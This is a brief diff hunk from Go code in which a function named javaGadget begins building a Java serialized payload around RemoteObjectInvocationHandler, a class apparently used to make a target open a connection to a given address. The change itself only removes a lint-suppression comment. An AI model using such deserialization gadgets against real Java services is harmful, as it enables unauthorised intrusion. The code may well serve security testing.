@@ -65,7 +65,7 @@ func javaGadget(address string) []byte {
 	}
 	count, when, _ := listener.RemoteKey(address) // zeros call, too, but name nobody
 	text := func(b []byte, s string) []byte {
-		return append(binary.BigEndian.AppendUint16(b, uint16(len(s))), s...) //nolint:gosec // names of classes and hosts
+		return append(binary.BigEndian.AppendUint16(b, uint16(len(s))), s...)
 	}
 	b := []byte{0xac, 0xed, 0, 5, 0x73, 0x72} // magic, version; an object; its class
 	b = text(b, "java.rmi.server.RemoteObjectInvocationHandler")
